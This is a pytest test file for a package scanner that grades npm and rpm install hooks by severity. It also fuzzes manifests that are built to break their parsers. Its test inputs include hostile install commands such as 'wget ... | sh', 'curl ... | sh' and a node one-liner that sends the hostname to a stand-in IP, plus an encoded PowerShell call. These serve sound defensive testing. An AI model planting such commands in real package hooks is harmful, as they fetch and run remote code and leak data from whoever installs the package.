"""Grades of hooks, and manifests that were written to break their readers."""

from __future__ import annotations

import json
import runpy
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checks.content._hooks_system import rpm_scripts
from checks.content.install_hook import install_hook
from checks.runtime.model import Finding, Severity, Unchecked

SPEC = install_hook.check_spec
SAMPLES = runpy.run_path(str(Path(__file__).resolve().parents[2] / "samples" / "install_hook" / "samples.py"))


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("node-gyp rebuild", Severity.INFO),
        ("husky install", Severity.INFO),
        ("is-ci || husky", Severity.INFO),
        ("node check.js", Severity.LOW),
        ("cp a b", Severity.LOW),
        ("node-gyp rebuild && curl https://example.invalid/x -o y && chmod +x y", Severity.HIGH),
        ("husky; wget http://192.0.2.4/x -O- | sh", Severity.CRITICAL),
        ("node -e \"require('https').get('http://192.0.2.4/'+require('os').hostname())\"", Severity.CRITICAL),
        ("powershell -enc " + "QUFB" * 20, Severity.HIGH),
    ],
)
def test_grades_of_a_command(command, severity, make_package, run_check) -> None:
    [finding] = run_check(SPEC, make_package(SAMPLES["npm"]({"postinstall": command})))
    assert finding.severity is severity, finding.message


def test_a_download_from_the_registry_is_less_than_one_from_anywhere(make_package, run_check) -> None:
    def severity(host: str) -> Severity:
        script = SAMPLES["FETCH"].replace("example.invalid", host)
        [finding] = run_check(SPEC, make_package(SAMPLES["npm"]({"postinstall": "node get.js"}, get_js=script)))
        return finding.severity

    assert severity("registry." + "npmjs.org") is Severity.MEDIUM
    assert severity("example.invalid") is Severity.HIGH


def test_build_scripts_weigh_less_than_install_scripts(make_package, run_check) -> None:
    files = {"get_js": SAMPLES["FETCH"]}
    [install] = run_check(SPEC, make_package(SAMPLES["npm"]({"install": "node get.js"}, **files)))
    [prepare] = run_check(SPEC, make_package(SAMPLES["npm"]({"prepare": "node get.js"}, **files)))
    assert prepare.severity < install.severity


def test_the_span_shows_the_command(make_package, run_check) -> None:
    package = make_package(SAMPLES["npm"]({"postinstall": "cp a b"}))
    [finding] = run_check(SPEC, package)
    assert package.files[finding.file].data[finding.start : finding.end] == b"cp a b"


def test_a_script_outside_of_its_archive_is_not_followed(make_package, run_check) -> None:
    inner = {f"a.tgz!/{path}": data for path, data in SAMPLES["npm"]({"postinstall": "node ../../evil.js"}).items()}
    package = make_package(
        {"a.tgz": b"", "evil.js": SAMPLES["STEAL"].encode()} | inner, parents=dict.fromkeys(inner, "a.tgz")
    )
    [finding] = run_check(SPEC, package)
    assert finding.severity is Severity.LOW


def test_scripts_that_require_each_other_end(make_package, run_check) -> None:
    files = SAMPLES["npm"]({"postinstall": "node a.js"}, a_js="require('./b')", b_js="require('./a')")
    assert len(run_check(SPEC, make_package(files))) == 1


def test_scripts_that_call_each_other_end(make_package, run_check) -> None:
    files = SAMPLES["npm"]({"postinstall": "npm run a", "a": "npm run b && npm run b", "b": "npm run a && npm run a"})
    assert len(run_check(SPEC, make_package(files))) == 1


def test_more_hooks_than_anybody_reads_are_not_silently_dropped(make_package, run_check) -> None:
    files = SAMPLES["npm"]({})
    for n in range(9):
        files[f"package/node_modules/a{n}/package.json"] = json.dumps({"scripts": {"install": "x y"}}).encode()
    results = run_check(SPEC, make_package(files), limit=5)
    assert [type(r) for r in results] == [Finding] * 5 + [Unchecked]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    manifest=st.one_of(
        st.recursive(
            st.none() | st.integers() | st.text(max_size=8),
            lambda inner: (
                st.lists(inner, max_size=3)
                | st.dictionaries(
                    st.sampled_from(["scripts", "postinstall", "install", "type", "activationEvents"]),
                    inner,
                    max_size=3,
                )
            ),
            max_leaves=8,
        ).map(lambda value: json.dumps(value).encode()),
        st.binary(max_size=60),
    )
)
def test_no_manifest_breaks_it(manifest, make_package, run_check) -> None:
    files = {
        "p/package.json": manifest,
        "p/composer.json": manifest,
        "p/binding.gyp": manifest,
        "p/setup.py": manifest,
        "p/pyproject.toml": manifest,
        "p/a.pth": manifest,
    }
    for result in run_check(SPEC, make_package(files)):
        assert isinstance(result, Finding)


@given(st.binary(max_size=400), st.integers(0, 200), st.integers(0, 255))
def test_a_damaged_rpm_is_said_to_be_damaged(tail, position, value) -> None:
    data = bytearray(SAMPLES["rpm"]("curl http://192.0.2.1/x | sh") + tail)
    data[position] = value
    try:
        for _, start, end in rpm_scripts(bytes(data)):
            assert 0 <= start < end <= len(data)
    except ValueError:
        pass


def test_a_manifest_made_to_keep_its_parser_busy_is_told_at_once(make_package, run_check) -> None:
    results = run_check(SPEC, make_package({"pyproject.toml": b"a.b." * 200_000}))
    assert [f.rule for f in results] == ["unreadable_manifest"]
